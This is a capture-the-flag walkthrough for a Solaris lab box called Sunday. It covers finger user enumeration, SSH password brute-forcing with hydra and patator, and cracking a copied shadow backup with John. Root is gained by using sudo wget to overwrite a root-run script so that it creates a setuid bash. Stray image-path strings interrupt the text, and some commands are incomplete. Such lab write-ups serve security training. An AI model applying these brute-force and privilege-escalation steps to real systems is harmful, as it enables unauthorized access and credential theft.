Sunday is an easy Linux box that can be exploited by brute-forcing the finger service and finding two users. One of which has default credentials that can be used to obtain a low privileged shell. By enumerating the system you will find a backup of the shadow file which can be bruteforced to obtain credentials of the second user. The final privilegeescalation can be obtained by abusing both user’s sudo permissions. One user can execute wget with sudo and save it to a file that the other user can execute as sudo.


Nmap discovered the following open ports and services:

nmap -sC -sV -oN fullscan -Pn

79/tcp  open  finger  Sun Solaris fingerd
|_finger: No one logged on\x0D
111/tcp open  rpcbind 2-4 (RPC #100000)
Service Info: OS: Solaris; CPE: cpe:/o:sun:sunos

However, the scanning time of Nmap is really long so also used masscan:

open tcp 42273 1614514529
open tcp 22022 1614514552
open tcp 111 1614514604
open tcp 423021614514630
# end

It found some additional open ports that were investigated with nmap. Port 22022 was an SSH service:

22022/tcp open  ssh     SunSSH 1.3 (protocol 2.0)

Finger Enumeration

First, you will have to enumerate the finger service. You can issue this command to verify if a user exists:

finger root@sunday.htb
Login       Name               TTY         Idle    When    Where
root     Super-User            pts/3         sunday

Therefore, you can brute-force this service. In this case the perl script was used:

perl -U xato-net-10-million-usernames.txt -tsammy@ sammy                 console      10 18:25
sunny@ sunny                 pts/3        24, 2018

It found two users among other standard users. Let’s verify the results:

finger sammy@
Login       Name               TTY         Idle    When    Where
sammy    sammy                 console      10 18:25

finger sunny@
Login       Name               TTY         Idle    When    Where
sunny    sunny                 pts/2         13 Mon 12:30

Brute-forcing Finger

After this, I used Hydra in an attempt to brute-force the service but that was very slow:

hydra -L users.txt -P /usr/share/wordlists/rockyou.txt ssh -s 22022

After this, I used Medusa but this was also very slow. Then I used patator:

patator ssh_login host= port=22022 user=sunny password=FILE0 0=/usr/share/wordlists/rockyou.txt persistent=0 -x ignore:mesg='Authentication failed.'

This was the only tool that worked. So, it shows that it’s worth trying several different tools that serve the same purpose if your usual tool doesn’t work. The result is:

sunny : sundayOkay, so let’s authenticate with SSH:

ssh sunny@ -p 22022 -oKexAlgorithms=+diffie-hellman-group1-sha1


This will provide you with a SSH shell as sunny. The home directory is quite odd:

sunny@sunday:~$ pwd

When you check the permissions of user:

sunny@sunday:/home$ sudo -l
User sunny may run the following commands on this host:
    (root) NOPASSWD: /root/troll

sunny@sunday:/home$ ls -la /root/troll
ls: cannot access /root/troll: Permission denied

Okay, so we can execute this file as root, let’s see what it does:

sunny@sunday:/home$ sudo /root/troll          testing
uid=0(root) gid=0(root)Okay, so it seems to echo something and also execute the id command. Let’s enumerate some more. In the / directory you will find a directory named backup which isn’t default and thus interesting. It contains a backup of shadow:

sunny@sunday:/backup$ ls
agent22.backup  shadow.backup

Let’s copy this over with scp:

scp -oKexAlgorithms=+diffie-hellman-group1-sha1 -P 22022 sunny@ shadow.backup

Now you can crack it with a password crack tool, I used John:

john --wordlist=/usr/share/wordlists/rockyou.txt shadow.backup

This will find the password:

cooldude!        (sammy)

Lets switch user from ssh shell:

sunny@sunday:~$ su sammy
sunny@sunday:~$ id
uid=101(sammy) gid=10(staff)groups=10(staff)

Now you will access to user.txt.

Privilege Escalation

Let’s check the permissions of Sammy:

sudo -l
User sammy may run the following commands on this host:
    (root) NOPASSWD: /usr/bin/wget

Nice, so you can run wget as sudo. Now it’s always important to go back to your enumeration and see if you can chain any vulnerabilities. This is possible since you can run wget as sudo and you can run the executable /root/troll. Therefore, the path to root is to overwrite the /root/troll. In this case I created the following file on my own machine:

cat getroot
cp /bin/bash /tmp/pwned; chmod +s /tmp/pwned

However, inhindsight, you could’ve also executed this:



This will provide you with a root shell.
First, you have to start twoSSH shells. One with Sunny, the other with Sammy. This is very important since you need to do this quick as the /root/troll is refreshed every couple seconds. After doing so, you can run the following command from Sammy:

sudo wget -O /root/troll

Now, execute the following command as Sunny:

sudo /root/troll

This will create a file named pwned in /tmp that youcan use to get a root shell:

sunny@sunday:~/Desktop$ ls -la /tmp
total 742
drwxrwxrwt  4 root sys     446 2021-03-01 12:52 .
drwxr-xr-x 26 root root     27 2020-09-30 13:20 ..
-r-sr-sr-x  1 root root 735368 2021-03-01 12:52 pwned

To obtain the root shell,execute:

sunny@sunday:~/Desktop$ /tmp/pwned -p
pwned-3.2# id
uid=101(sammy) gid=10(staff) euid=0(root) egid=0(root) groups=10(staff)
pwned-3.2# cat /root/root.txt

As a side note, you can also abuse wget’s functionality and cat the root flag directly with:

sudo wget -i /root/root.txt


This was an easy box but I found it to be pretty useful, I liked the privilege escalation due to having to combineseveral things to obtain the final root. What I disliked was that thebox froze every couple seconds,not sure why but it made it take alot longer. Hope you didn’t have this issue and enjoyed the writeup!